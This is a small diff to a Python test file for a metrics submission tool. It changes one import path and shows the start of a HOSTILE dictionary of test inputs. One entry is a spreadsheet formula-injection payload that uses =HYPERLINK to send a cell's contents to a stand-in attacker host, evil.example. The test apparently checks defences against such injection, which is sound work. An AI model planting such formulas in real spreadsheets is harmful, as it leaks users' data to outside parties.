@@ -14,7 +14,7 @@ import polars as pl
 from test_submit import ORGANISATIONS as SUBMIT_ORGANISATIONS
 from test_submit import PERIOD, assessment_rows, make_warehouse, write_provider_data
 
-from metrics_cli.submit import submit
+from metrics_cli.returns.submit import submit
 
 HOSTILE = {
     "A1": '=HYPERLINK("http://evil.example/?"&A1,"Abbey")',
